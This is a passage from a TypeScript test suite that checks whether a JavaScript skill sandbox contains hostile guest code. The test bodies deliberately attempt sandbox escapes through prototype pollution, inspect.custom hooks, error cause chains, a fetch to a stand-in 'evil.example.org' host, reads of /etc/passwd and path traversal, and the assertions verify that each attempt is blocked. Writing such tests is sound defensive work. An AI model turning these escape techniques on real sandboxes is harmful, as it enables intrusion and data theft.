  async function* gen() { yield await kv.get("k"); yield await kv.delete("k"); yield "unreachable"; }
  try { for await (const x of gen()) values.push(x); } catch (e) { errs.push(e); }
  const g = gen();
  values.push((await g.next()).value);
  try { await g.throw(new Error("thrown in")); } catch (e) { errs.push(e); }
  const g2 = gen();
  try { await g2.next(); await g2.next(); } catch (e) { errs.push(e); }
  values.push(await g2.return("returned"));
  async function withFinally() { try { return await kv.delete("k"); } finally { values.push("finally ran"); } }
  try { await withFinally(); } catch (e) { errs.push(e); }
  const thenable = { then(resolve, reject) { seen.push(resolve, reject, this); resolve(kv.get("k")); } };
  values.push(await thenable);
  async function nested() { await null; await kv.get("k"); throw await kv.delete("k").catch((e) => e); }
  try { await nested(); } catch (e) { errs.push(e); }
  const unhandled = kv.delete("k");
  seen.push(unhandled);
  await unhandled.catch((e) => errs.push(e));
  const scan = await __S.scan([...errs, ...seen, ...values, gen, g, g2]);
  return { errs: errs.map(__S.errInfo), values, scan };
}`;
    const sk = skill(body);
    const out = await run<{ errs: ErrInfo[]; values: Json[]; scan: ScanReport }>(sk);
    assert.equal(out.errs.length, 6, JSON.stringify(out.errs));
    for (const e of out.errs) {
      if (e.message === "thrown in") assertGuestError(e, "g.throw");
      else assertHostBoom(e, "async path");
    }
    assert.deepEqual(out.values, [CANNED.kv, CANNED.kv, { value: "returned", done: true }, "finally ran", CANNED.kv]);
    assertClean(out.scan, "async paths");
    const err = await rejects(sk, { uncaught: true });
    assert.equal(err.code, "SKILL_ERROR");
    assert.equal(err.message, "host boom", "the gateway sees the guest error's first line only");
  });

  it("nodejs.util.inspect.custom on errors, outputs and arguments is never called by anyone", async () => {
    const body = `
const custom = Symbol.for("nodejs.util.inspect.custom");
export async function run(input) {
  const calls = (globalThis.__inspectCalls ??= []);
  const record = function (...args) { calls.push(this, ...args); return "inspected"; };
  if (!globalThis.__installed) {
    globalThis.__installed = true;
    for (const proto of [Object.prototype, Error.prototype, Array.prototype, Function.prototype, Promise.prototype]) Object.defineProperty(proto, custom, { value: record, configurable: true });
  }
  if (input.phase === "throw") { const e = new Error("inspect me"); e[custom] = record; throw e; }
  if (input.phase === "output") return { [custom]: record, toJSON() { return { custom: "toJSON" }; } };
  if (input.phase === "args") {
    console.log({ [custom]: record });
    return { v: await kv.set("k", { [custom]: record, a: 1 }) };
  }
  const scan = await __S.scan([Object.prototype[custom], ...calls]);
  return { count: calls.length, scan };
}`;
    const sk = skill(body);
    const err = await rejects(sk, { phase: "throw" });
    assert.equal(err.code, "SKILL_ERROR");
    // The gateway inspecting what it got back must not run guest code either.
    assert.doesNotMatch(inspect(err, { depth: 10 }), /inspected/);
    const output = await run(sk, { phase: "output" });
    assert.deepEqual(output, { custom: "toJSON" });
    assert.doesNotMatch(inspect(output, { depth: 10 }), /inspected/);
    assert.deepEqual(await run(sk, { phase: "args" }), { v: CANNED.kv });
    assert.doesNotMatch(inspect(hostCalls.at(-1)?.args, { depth: 10 }), /inspected/);
    const out = await run<{ count: number; scan: ScanReport }>(sk, { phase: "report" });
    assert.equal(out.count, 0, "inspect.custom was called");
    assertClean(out.scan, "inspect.custom calls", 0);
  });

  it("AggregateError and cause chains built from host failures hold guest errors only; the host's cause never crosses", async () => {
    const body = `
export async function run(input) {
  const proxy = new Proxy({}, { get(t, k) { (globalThis.__aggTraps ??= []).push(String(k)); return undefined; } });
  if (input.phase === "throw") throw new AggregateError([proxy, new Error("inner", { cause: proxy })], "agg", { cause: proxy });
  let agg;
  try { await Promise.any([kv.delete("k"), net.fetch("https://evil.example.org/"), fs.remove("data/x")]); } catch (e) { agg = e; }
  const settled = await Promise.allSettled([kv.delete("k"), fs.readText("/etc/passwd"), fs.readText("data/../../x")]);
  const reasons = settled.map((s) => s.reason);
  const wrapped = new Error("wrapped", { cause: reasons[0] });
  const scan = await __S.scan([agg, ...agg.errors, ...reasons, wrapped]);
  return {
    agg: __S.errInfo(agg),
    aggIsGuest: agg instanceof AggregateError,
    inner: agg.errors.map(__S.errInfo),
    reasons: reasons.map(__S.errInfo),
    traps: globalThis.__aggTraps ?? [],
    scan,
  };
}`;
    const sk = skill(body);
    const err = await rejects(sk, { phase: "throw" });
    assert.equal(err.code, "SKILL_ERROR");
    assert.equal(err.details?.cause, undefined);
    const out = await run<{ agg: ErrInfo; aggIsGuest: boolean; inner: ErrInfo[]; reasons: ErrInfo[]; traps: string[]; scan: ScanReport }>(sk, { phase: "report" });
    assert.equal(out.aggIsGuest, true);
    assert.equal(out.agg.guest, true);
    assert.equal(out.inner.length, 3);
    assertHostBoom(out.inner[0], "Promise.any: kv.delete");
    assertGuestError(out.inner[1], "Promise.any: refused fetch");
    assert.equal(out.inner[1]?.name, "NotCapable");
    assertHostBoom(out.inner[2], "Promise.any: fs.remove");
    assertHostBoom(out.reasons[0], "allSettled: kv.delete");
    for (const r of out.reasons.slice(1)) {
      assertGuestError(r, "allSettled: fs outside the workspace");
      assert.equal(r.name, "NotCapable");
    }
    assertClean(out.scan, "aggregate errors");
  });

  it("prototype pollution before host calls: the bridge still returns the right values (or fails cleanly) and yields no Reference", async () => {
    const out = await run<{ values: Record<string, string>; hits: Record<string, number>; stillPolluted: boolean; scan: ScanReport }>(
      skill(`
export async function run() {
  const seen = new Set();
  const hits = Object.create(null);
  const hit = (name, ...xs) => { hits[name] = (hits[name] || 0) + 1; for (let i = 0; i < xs.length; i++) seen.add(xs[i]); };
  const original = {
    parse: JSON.parse, stringify: JSON.stringify, then: Promise.prototype.then, apply: Function.prototype.apply, call: Function.prototype.call,
    rApply: Reflect.apply, freeze: Object.freeze, defineProperty: Object.defineProperty, iterator: Array.prototype[Symbol.iterator], PromiseCtor: Promise,
  };
  const stringify = original.stringify;
  const undo = [];
  const define = (obj, key, desc) => {
    const old = Object.getOwnPropertyDescriptor(obj, key);
    // Null-prototype descriptors: Object.prototype is about to grow "value" and "get" accessors.
    original.defineProperty(obj, key, { __proto__: null, configurable: true, ...desc });
    undo.push(() => (old ? original.defineProperty(obj, key, { __proto__: null, ...old }) : delete obj[key]));
  };
  // Pollute everything the bootstrap could touch after skill code has run.
  // (No spread or for-of inside the hooks: they would re-enter the polluted iterator.)
  define(JSON, "parse", { value: function (...a) { hit("JSON.parse", a); return { ok: true, value: "FORGED" }; }, writable: true });
  define(JSON, "stringify", { value: function (...a) { hit("JSON.stringify", a); return '"FORGED"'; }, writable: true });
  define(Promise.prototype, "then", { value: function (...a) { hit("then", this, a); return original.rApply(original.then, this, a); }, writable: true });
  define(Function.prototype, "apply", { value: function (...a) { hit("Function.apply", this, a); return original.rApply(this, a[0], a[1] || []); }, writable: true });
  define(Function.prototype, "call", { value: function (...a) { hit("Function.call", this, a); return original.rApply(this, a[0], a.slice(1)); }, writable: true });
  define(Reflect, "apply", { value: function (...a) { hit("Reflect.apply", a); return original.rApply(a[0], a[1], a[2]); }, writable: true });
  define(Object, "freeze", { value: function (o) { hit("Object.freeze", o); return o; }, writable: true });
  define(Array.prototype, Symbol.iterator, { value: function () { hit("Array iterator", this); return original.rApply(original.iterator, this, []); }, writable: true });
  for (const key of ["result", "arguments", "reference", "copy", "promise", "externalCopy", "timeout", "apply", "applySync", "derefInto", "deref", "copySync", "release",
                     "then", "ok", "value", "error", "details", "code", "message", "capability", "request", "need", "url", "method", "headers", "body", "credential", "path", "key", "text", "__proto__"]) {
    if (key === "__proto__") continue;
    define(Object.prototype, key, {
      get() { hit("get " + key, this); return undefined; },
      set(v) { hit("set " + key, this, v); original.defineProperty(this, key, { __proto__: null, value: v, writable: true, enumerable: true, configurable: true }); },
    });
  }
  for (const index of ["0", "1", "2", "3"]) {
    define(Array.prototype, index, {
      get() { hit("get [" + index + "]", this); return undefined; },
      set(v) { hit("set [" + index + "]", this, v); original.defineProperty(this, index, { __proto__: null, value: v, writable: true, enumerable: true, configurable: true }); },
    });
  }
  const values = {};
  const attempt = async (name, f) => {
    try { const v = await f(); values[name] = "ok " + stringify(v); }
    catch (e) { seen.add(e); values[name] = "failed " + String(e && e.name) + ":" + String(e && e.message); }
  };
  await attempt("kv.get", () => kv.get("k"));
  await attempt("kv.set", () => kv.set("k", { a: [1, 2] }));
  await attempt("net.fetch", () => net.fetch("https://api.example.com/x", { method: "GET", headers: {} }));
  await attempt("fs.readText", () => fs.readText("data/file.txt"));
  await attempt("fs.list", () => fs.list("data"));
  await attempt("kv.delete", () => kv.delete("k"));
  await attempt("refused", () => net.fetch("https://evil.example.org/"));
  for (const u of undo.reverse()) u();
  const stillPolluted = JSON.parse !== original.parse || Object.prototype.hasOwnProperty("result");
  const scan = await __S.scan([...seen]);
  return { values, hits: { ...hits }, stillPolluted, scan };
}`),
    );
    assert.equal(out.stillPolluted, false);
    assert.equal(out.values["kv.get"], `ok ${JSON.stringify(CANNED.kv)}`);
    assert.equal(out.values["kv.set"], `ok ${JSON.stringify(CANNED.kv)}`);
    assert.equal(out.values["net.fetch"], `ok ${JSON.stringify(CANNED.net)}`);
    assert.equal(out.values["fs.readText"], `ok ${JSON.stringify(CANNED.fs)}`);
    assert.equal(out.values["fs.list"], `ok ${JSON.stringify(["a", "b"])}`);
    assert.equal(out.values["kv.delete"], "failed Error:host boom");
    assert.match(out.values.refused ?? "", /^failed NotCapable:@t\/escape may not GET https:\/\/evil\.example\.org\/$/);
    // The bootstrap captured its built-ins: the polluted JSON functions were never used by it.
    assert.equal(out.hits["JSON.parse"], undefined, "the bridge used the skill's JSON.parse");
    assert.equal(out.hits["JSON.stringify"], undefined, "the bridge used the skill's JSON.stringify");
    const kvCall = hostCalls.findLast((c) => c.capability === "kv" && c.op === "set");
    assert.deepEqual(kvCall?.args, { key: "k", value: { a: [1, 2] } }, "the host received the real arguments");
    assertClean(out.scan, "objects the pollution hooks saw");
  });

  it("after every attempt the worker process is the same one, alive, and a normal call still works", async () => {
    assert.deepEqual(
      events.filter((e) => e.type === "crashed"),
      [],
      "no attempt crashed the worker",
    );
    const pid = pool.workerPid("escape", "x");
    assert.equal(pid, firstPid, "the worker was replaced during the suite");
    assert.doesNotThrow(() => process.kill(pid as number, 0), "the worker is alive");
    const out = await run(skill(`export async function run(input) { return { sum: input.a + input.b, kv: await kv.get("k"), fetched: (await net.fetch("https://api.example.com/ok")).status }; }`), { a: 2, b: 3 }, "after");
    assert.deepEqual(out, { sum: 5, kv: CANNED.kv, fetched: 200 });
  });
});
